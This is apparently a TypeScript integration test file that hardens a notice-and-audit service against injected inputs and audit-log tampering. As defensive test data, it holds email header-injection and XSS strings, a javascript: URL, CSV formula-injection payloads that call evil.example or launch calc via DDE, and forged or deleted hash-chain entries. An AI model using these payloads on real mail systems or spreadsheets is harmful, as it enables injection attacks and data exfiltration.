/**
 * Hardening of notices, the audit log and its exports, through HTTP against the real system: what
 * an attacker-controlled value (a token subject, a request id, an HR display name, a template) can
 * do to a notice's headers and HTML, to a CSV export opened in a spreadsheet, and what reaches the
 * log, the case or the audit trail when a mail server echoes the recipient; filters exact at their
 * bounds; exports crossing the streaming batches; verification of tampered ranges.
 */
import { randomBytes, randomUUID } from 'node:crypto';
import { asc, eq, sql } from 'drizzle-orm';
import type supertest from 'supertest';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { AuditEntrySchema, CSV_COLUMNS, VerificationSchema } from '../../api/routes/audit';
import { CaseDetail } from '../../api/routes/cases';
import { appendAudit, GENESIS_HASH, hashAuditEntry } from '../../db/audit';
import { auditLog } from '../../db/schema';
import { caseReference } from '../../domain/notices';
import { startSmtpSink, type SmtpSink } from '../../infra/smtp';
import { canaryIdentity, noticeTemplate, putTemplate, runNotice, seedNoticeCase } from '../helpers/notices';
import { principals, startTestSystem, type TestSystem } from '../helpers/system';

let sys: TestSystem;
let sink: SmtpSink;
let admin: string;
let auditor: string;

beforeAll(async () => {
  sink = await startSmtpSink();
  sys = await startTestSystem({ env: { SMTP_URL: sink.url } });
  admin = await sys.auth(principals.admin);
  auditor = await sys.auth(principals.auditor);
}, 60_000);
afterAll(async () => {
  await sys?.close();
  await sink?.stop();
});
beforeEach(() => {
  sink.clear();
  sink.setReply(undefined);
});

const tag = () => randomBytes(4).toString('hex');
const Page = z.object({ items: z.array(AuditEntrySchema), nextCursor: z.string().nullable() });

/** Read a streamed body as text, whatever its content type. */
const text = (req: supertest.Test) =>
  req.buffer(true).parse((res, cb) => {
    let data = '';
    res.setEncoding('utf8');
    res.on('data', (c: string) => (data += c));
    res.on('end', () => cb(null, data));
  });

async function exportText(query: string, authz = auditor): Promise<string> {
  const res = await text(sys.http.get(`/v1/audit/export${query}`).set('Authorization', authz));
  expect(res.status).toBe(200);
  return res.body as string;
}

const ndjson = (body: string) =>
  body
    .split('\n')
    .filter(Boolean)
    .map((l) => AuditEntrySchema.strict().parse(JSON.parse(l)));

async function auditPage(query: string) {
  const res = await sys.http.get(`/v1/audit${query}`).set('Authorization', auditor);
  expect(res.status, JSON.stringify(res.body)).toBe(200);
  return Page.parse(res.body).items;
}

/**
 * A CSV reader as a spreadsheet opens the file: `delimiter` separates cells, a `"` opens a quoted
 * cell only at the start of a cell (`""` inside is a quote), records end at CRLF outside quotes.
 */
function readCsv(body: string, delimiter: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let cell = '';
  let i = 0;
  let atCellStart = true;
  while (i < body.length) {
    const c = body[i]!;
    if (atCellStart && c === '"') {
      i++;
      for (;;) {
        if (i >= body.length) throw new Error('unterminated quoted cell');
        if (body[i] === '"' && body[i + 1] === '"') {
          cell += '"';
          i += 2;
        } else if (body[i] === '"') {
          i++;
          break;
        } else cell += body[i++];
      }
      atCellStart = false;
      continue;
    }
    if (c === delimiter) {
      record.push(cell);
      cell = '';
      atCellStart = true;
      i++;
    } else if (c === '\r' && body[i + 1] === '\n') {
      record.push(cell);
      records.push(record);
      record = [];
      cell = '';
      atCellStart = true;
      i += 2;
    } else {
      cell += c;
      atCellStart = false;
      i++;
    }
  }
  if (cell !== '' || record.length) {
    record.push(cell);
    records.push(record);
  }
  return records;
}

/** What a spreadsheet would run as a formula (OWASP "CSV injection"). */
const FORMULA_START = /^[=+\-@\t\r]/;

describe('notice templates: placeholders are a whitelist', () => {
  it('names inherited by every JavaScript object ({{constructor}}, {{__proto__}}, {{toString}}) are refused like any unknown placeholder', async () => {
    const probes: Array<[string, Record<string, string>]> = [
      ['body.textBody', { textBody: 'Dear {{subject.displayName}}, see {{toString}}.' }],
      ['body.htmlBody', { htmlBody: '<p>Dear {{subject.displayName}} {{constructor}}</p>' }],
      ['body.subject', { subject: 'About {{__proto__}} {{case.reference}}' }],
      ['body.textBody', { textBody: 'Dear {{ hasOwnProperty }}' }],
    ];
    for (const [field, over] of probes) {
      const id = `proto-${tag()}`;
      const res = await sys.http.put(`/v1/notice-templates/${id}`).set('Authorization', admin).send(noticeTemplate(over));
      expect(res.status, `${field} ${JSON.stringify(over)} → ${JSON.stringify(res.body)}`).toBe(400);
      expect(res.body.error.details[0]).toMatchObject({ field });
      // Nothing was stored, so no notice can be rendered from it.
      expect((await sys.http.get(`/v1/notice-templates/${id}`).set('Authorization', admin)).status).toBe(404);
    }
  });

  it('what the person receives never holds JavaScript internals in place of a placeholder', async () => {
    const templateId = `proto-sent-${tag()}`;
    const put = await sys.http
      .put(`/v1/notice-templates/${templateId}`)
      .set('Authorization', admin)
      .send(noticeTemplate({ cc: [], bcc: [], textBody: 'Dear {{subject.displayName}}, see {{toString}}.' }));
    if (put.status === 400) return; // refused when saved: nothing can be sent from it
    expect(put.status, JSON.stringify(put.body)).toBe(201);
    const ids = await seedNoticeCase(sys, { templateId });
    expect((await runNotice(sys, ids)).status).toBe('sent');
    expect(sink.messages[0]!.text).not.toContain('[native code]');
  });
});

describe('what a display name from the HR record can do to a notice', () => {
  it('line breaks in the name reach neither the headers nor the envelope; markup in it stays text in the HTML part', async () => {
    const templateId = `hdr-${tag()}`;
    await putTemplate(sys, templateId, {
      subject: 'Notice for {{subject.displayName}} ({{case.reference}})',
      cc: [],
      bcc: [],
    });
    const identity = {
      ...canaryIdentity(),
      displayName: 'Quillon\r\nBcc: attacker@evil.example\r\nX-Injected: yes\n<img src=x onerror=alert(1)>',
    };
    const ids = await seedNoticeCase(sys, { identity, templateId });
    expect(await runNotice(sys, ids)).toEqual({ noticeId: ids.noticeId, status: 'sent' });

    expect(sink.messages).toHaveLength(1);
    const m = sink.messages[0]!;
    expect(m.envelope.rcptTo).toEqual([identity.email]);
    expect(m.headers['x-injected']).toBeUndefined();
    expect(m.headers['bcc']).toBeUndefined();
    expect(
      Object.keys(m.headers)
        .filter((k) => !/^(content-|mime-)/.test(k))
        .sort(),
    ).toEqual(['auto-submitted', 'date', 'from', 'message-id', 'subject', 'to', 'x-warden-notice'].sort());
    expect(m.subject).toBe(
      `Notice for Quillon Bcc: attacker@evil.example X-Injected: yes <img src=x onerror=alert(1)> (${caseReference(ids.caseId)})`,
    );
    expect(m.html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(m.html).not.toMatch(/<img[^>]*onerror/i);
  });

  it('a placeholder used as a link or image address cannot become a javascript: or data: URL', async () => {
    const templateId = `href-${tag()}`;
    const put = await sys.http
      .put(`/v1/notice-templates/${templateId}`)
      .set('Authorization', admin)
      .send(
        noticeTemplate({
          cc: [],
          bcc: [],
          htmlBody:
            '<p>Hello <a href="{{subject.displayName}}">respond here</a> <img src="{{subject.displayName}}" alt="logo"></p>',
        }),
      );
    if (put.status === 400) {
      // Refusing such a template outright is a correct answer too.
      expect(put.body.error.message).toContain('body.htmlBody');
      return;
    }
    expect(put.status, JSON.stringify(put.body)).toBe(201);
    const identity = { ...canaryIdentity(), displayName: 'javascript:alert(document.domain)' };
    const ids = await seedNoticeCase(sys, { identity, templateId });
    expect((await runNotice(sys, ids)).status).toBe('sent');
    const html = sink.messages[0]!.html ?? '';
    expect(html).toContain('respond here');
    expect(html).not.toMatch(/(href|src)\s*=\s*["']?\s*(javascript|data|vbscript):/i);
  });
});

describe('a mail server that echoes the recipient', () => {
  it('neither the address, its mailbox name nor the display name reaches the case, the audit log or the logs', async () => {
    const identity = canaryIdentity();
    const mailbox = identity.email.slice(0, identity.email.indexOf('@'));
    const ids = await seedNoticeCase(sys, { identity, templateId: (await putTemplate(sys, `echo-${tag()}`)).id });
    sink.setReply(({ attempt }) =>
      attempt === 1
        ? { code: 452, message: `4.2.2 Mailbox of ${identity.displayName} <${identity.email}> is over quota` }
        : { code: 550, message: `5.1.1 ${mailbox}... User unknown`, at: 'rcpt' },
    );
    const result = await runNotice(sys, ids, { initialIntervalMs: 100, maximumAttempts: 4 });
    expect(result).toEqual({ noticeId: ids.noticeId, status: 'failed' });
    expect(sink.transactions.map((t) => ('code' in t.reply ? t.reply.code : 250))).toEqual([452, 550]);

    const detail = await sys.http.get(`/v1/cases/${ids.caseId}`).set('Authorization', await sys.auth(principals.investigator));
    expect(detail.status).toBe(200);
    const c = CaseDetail.parse(detail.body);
    expect(c.notices[0]).toMatchObject({ status: 'failed' });
    expect(c.notices[0]!.failureReason).toMatch(/^550 5\.1\.1 .*User unknown/);
    const audit = await auditPage(`?caseId=${ids.caseId}&limit=1000`);
    expect(audit.map((e) => e.action)).toEqual(expect.arrayContaining(['notice.queued', 'notice.failed']));

    const places = {
      case: JSON.stringify(detail.body),
      audit: JSON.stringify(audit),
      logs: sys.logs.join('\n'),
    };
    for (const [where, haystack] of Object.entries(places)) {
      const lower = haystack.toLowerCase();
      expect(lower, `${where} holds the address`).not.toContain(identity.email.toLowerCase());
      expect(lower, `${where} holds the display name`).not.toContain(identity.displayName.toLowerCase());
      expect(lower, `${where} holds the mailbox name ${mailbox}`).not.toContain(mailbox.toLowerCase());
    }
  });
});

describe('CSV export opened in a spreadsheet', () => {
  /** A request refused for a missing permission: audited with the token subject as the actor. */
  async function deniedAs(sub: string, requestId: string) {
    const res = await sys.http
      .get('/v1/audit')
      .set('Authorization', await sys.auth({ sub, roles: ['analyst'], regions: ['eu'] }))
      .set('X-Request-Id', requestId);
    expect(res.status).toBe(403);
    expect(res.headers['x-request-id']).toBe(requestId);
  }

  it('every cell an attacker controls (token subject, request id) that starts like a formula is neutralised with a quote; quoting round-trips', async () => {
    const t = tag();
    const subs = [
      `=HYPERLINK("https://evil.example/?${t}","x")`,
      `+1+cmd|' /C calc'!A0 ${t}`,
      `-2+3 ${t}`,
      `@SUM(1+1)*cmd|' /C calc'!A0 ${t}`,
      `\t=1+1 ${t}`,
      `\r=1+1 ${t}`,
      `plain, "quoted"\nnext line ${t}`,
      `ok-${t}`,
    ];
    const requestIds = subs.map((_, i) => (i === 2 ? `-r${i}-${t}` : `r${i}-${t}`));
    for (const [i, sub] of subs.entries()) await deniedAs(sub, requestIds[i]!);

    const body = await exportText('?format=csv&outcome=denied&action=GET%20%2Fv1%2Faudit');
    const [header, ...records] = readCsv(body, ',');
    expect(header).toEqual([...CSV_COLUMNS]);
    const byRequest = new Map(records.map((r) => [r[CSV_COLUMNS.indexOf('request_id')]!, r]));
    const entries = ndjson(await exportText('?format=ndjson&outcome=denied&action=GET%20%2Fv1%2Faudit'));
    for (const [i, sub] of subs.entries()) {
      const rid = requestIds[i]!;
      const shownRid = FORMULA_START.test(rid) ? `'${rid}` : rid;
      const row = byRequest.get(shownRid);
      expect(row, `row of ${JSON.stringify(sub)}`).toBeDefined();
      const entry = entries.find((e) => e.requestId === rid)!;
      expect(entry.actor).toBe(sub);
      const expected = [
        String(entry.seq),
        entry.at,
        // Prefixed, and after a tab inside it too (where a tab-separated reading starts a cell).
        (FORMULA_START.test(sub) ? `'${sub}` : sub).replace(/([;\t])(?=[=+\-@\t\r])/g, "$1'"),
        'analyst',
        'GET /v1/audit',
        'audit',
        '',
        '',
        '',
        'denied',
        'missing permission audit:read',
        shownRid,
        '',
        entry.prevHash,
        entry.hash,
      ];
      expect(row).toEqual(expected);
      for (const cell of row!) expect(cell, JSON.stringify(cell)).not.toMatch(FORMULA_START);
    }
  });

  it('opened where the list separator is ";" (continental Excel), no cell starts a formula either', async () => {
    const t = tag();
    const sub = `x${t};=cmd|' /C calc'!A0;y`;
    await deniedAs(sub, `semi-${t}`);
    const body = await exportText(`?format=csv&actor=${encodeURIComponent(sub)}`);
    const records = readCsv(body, ';');
    expect(records.length).toBe(2); // the header and one entry
    const cells = records.flat();
    expect(
      cells.filter((c) => FORMULA_START.test(c)),
      'cells that a ";" spreadsheet runs as formulas',
    ).toEqual([]);
  });
});

describe('exports larger than one streaming batch', () => {
  it('NDJSON and CSV hold every entry exactly once, in order, across batch boundaries; filtered exports skip nothing', async () => {
    const actor = `bulk-${tag()}`;
    const N = 4_100; // the export reads 2,000 entries per batch
    const written: Array<{ seq: number; category: string }> = [];
    await sys.db.transaction(async (tx) => {
      for (let i = 0; i < N; i++) {
        const row = await appendAudit(tx, {
          actor,
          actorRoles: ['admin'],
          action: 'bulk.test',
          category: i % 3 === 0 ? 'signals' : 'system',
          outcome: 'allowed',
          details: { i },
        });
        written.push({ seq: row.seq, category: row.category });
      }
    });

    const all = ndjson(await exportText('?format=ndjson'));
    const count = (await sys.db.select({ n: sql<number>`count(*)::int` }).from(auditLog))[0]!.n;
    expect(all).toHaveLength(count);
    let prev = GENESIS_HASH;
    for (const e of all) {
      expect(e.prevHash, `link of entry ${e.seq}`).toBe(prev);
      prev = e.hash;
    }

    const signals = ndjson(await exportText(`?format=ndjson&actor=${actor}&category=signals`));
    expect(signals.map((e) => e.seq)).toEqual(written.filter((w) => w.category === 'signals').map((w) => w.seq));
    expect(signals.map((e) => e.details!.i)).toEqual(Array.from({ length: N }, (_, i) => i).filter((i) => i % 3 === 0));

    const csv = readCsv(await exportText(`?format=csv&actor=${actor}`), ',');
    expect(csv.slice(1).map((r) => Number(r[0]))).toEqual(written.map((w) => w.seq));
  }, 60_000);
});

describe('filters exact at their bounds', () => {
  it('from (inclusive) and to (exclusive) hold at any precision and offset of the bound', async () => {
    const actor = `bounds-${tag()}`;
    const t0 = Date.parse('2031-03-04T05:06:07.010Z');
    for (const ms of [0, 1, 2]) {
      await appendAudit(sys.db, { actor, action: 'bound.test', category: 'system', outcome: 'allowed', at: new Date(t0 + ms) });
    }
    const times = async (q: string) => (await auditPage(`?actor=${actor}&order=asc&${q}`)).map((e) => e.at.slice(-5));
    // The same instant written with an offset: inclusive from, exclusive to.
    expect(await times(`from=${encodeURIComponent('2031-03-04T07:06:07.011+02:00')}`)).toEqual(['.011Z', '.012Z']);
    expect(await times(`to=${encodeURIComponent('2031-03-04T07:06:07.011+02:00')}`)).toEqual(['.010Z']);
    // A bound between two entries' times (microseconds are valid in the query).
    expect(await times('to=2031-03-04T05:06:07.0105Z'), 'an entry at .010 is before .0105').toEqual(['.010Z']);
    expect(await times('from=2031-03-04T05:06:07.0105Z'), 'an entry at .010 is before .0105').toEqual(['.011Z', '.012Z']);
  });

  it('caseId matches the case however the UUID is written (RFC 4122: case-insensitive)', async () => {
    const caseId = randomUUID();
    await appendAudit(sys.db, {
      actor: 'inv-case',
      action: 'case.read',
      category: 'cases',
      targetType: 'case',
      targetId: caseId,
      region: 'eu',
      outcome: 'allowed',
    });
    await appendAudit(sys.db, {
      actor: 'inv-case',
      action: 'identity.read',
      category: 'identity',
      targetType: 'subject',
      targetId: 'subj-x',
      region: 'eu',
      outcome: 'allowed',
      details: { caseId },
    });
    const lower = (await auditPage(`?caseId=${caseId}`)).map((e) => e.seq);
    expect(lower).toHaveLength(2);
    expect((await auditPage(`?caseId=${caseId.toUpperCase()}`)).map((e) => e.seq)).toEqual(lower);
  });
});

describe('verification of a log tampered behind the triggers', () => {
  let t: TestSystem;
  let rows: Array<{ seq: number }>;
  let gapSeq: number;
  const verify = async (q = '') => {
    const res = await t.http.get(`/v1/audit/verify${q}`).set('Authorization', await t.auth(principals.auditor));
    expect(res.status).toBe(200);
    return VerificationSchema.parse(res.body);
  };
  const entry = (i: number) => ({
    actor: `a${i}`,
    actorRoles: ['admin'],
    action: 'seed',
    category: 'system' as const,
    outcome: 'allowed' as const,
    details: { i },
  });

  beforeAll(async () => {
    t = await startTestSystem({ worker: false });
    for (let i = 0; i < 4; i++) await appendAudit(t.db, entry(i));
    // A transaction that rolled back consumed a sequence number: a legitimate gap.
    await t.db
      .transaction(async (tx) => {
        await appendAudit(tx, entry(99));
        throw new Error('rolled back');
      })
      .catch(() => undefined);
    for (let i = 4; i < 12; i++) await appendAudit(t.db, entry(i));
    rows = await t.db.select({ seq: auditLog.seq }).from(auditLog).orderBy(asc(auditLog.seq));
    const gapAt = rows.findIndex((r, i) => i > 0 && r.seq !== rows[i - 1]!.seq + 1);
    expect(gapAt).toBeGreaterThan(0);
    gapSeq = rows[gapAt - 1]!.seq + 1;
  }, 60_000);
  afterAll(async () => t?.close());

  it('a legitimate sequence gap verifies; an entry forged into it is caught at the entry after it', async () => {
    expect(await verify()).toMatchObject({ ok: true, checked: rows.length });
    const [before] = await t.db
      .select()
      .from(auditLog)
      .where(eq(auditLog.seq, gapSeq - 1));
    const forged = {
      ...before!,
      seq: gapSeq,
      actor: 'mallory',
      action: 'settings.update',
      details: { forged: true },
      prevHash: before!.hash,
    };
    const { hash: _h, ...fields } = forged;
    const hash = hashAuditEntry(fields);
    await t.db.insert(auditLog).values({ ...fields, hash });
    const after = rows.find((r) => r.seq > gapSeq)!.seq;
    expect((await verify()).firstBroken).toMatchObject({ seq: after, reason: 'prev_hash_mismatch', lastGoodSeq: gapSeq });
    expect((await verify(`?fromSeq=${gapSeq}&toSeq=${after}`)).firstBroken).toMatchObject({
      seq: after,
      reason: 'prev_hash_mismatch',
    });
  });

  it('a range whose last entries were deleted is not reported intact', async () => {
    const [a, b, c, d] = rows.slice(-5, -1).map((r) => r.seq); // a..c is the range; d follows it
    await t.db.transaction(async (tx) => {
      await tx.execute(sql`set local session_replication_role = replica`);
      await tx.execute(sql`delete from audit_log where seq in (${b}, ${c})`);
    });
    // A range that reaches the entry after the gap: it links to a hash that is gone.
    expect((await verify(`?fromSeq=${a}&toSeq=${d}`)).firstBroken).toMatchObject({
      seq: d,
      reason: 'entry_missing',
      lastGoodSeq: a,
    });
    // The range [a, c]: two of its three entries are gone.
    const range = await verify(`?fromSeq=${a}&toSeq=${c}`);
    expect(range, JSON.stringify(range)).toMatchObject({
      ok: false,
      firstBroken: { reason: 'entry_missing', lastGoodSeq: a },
    });
  });
});
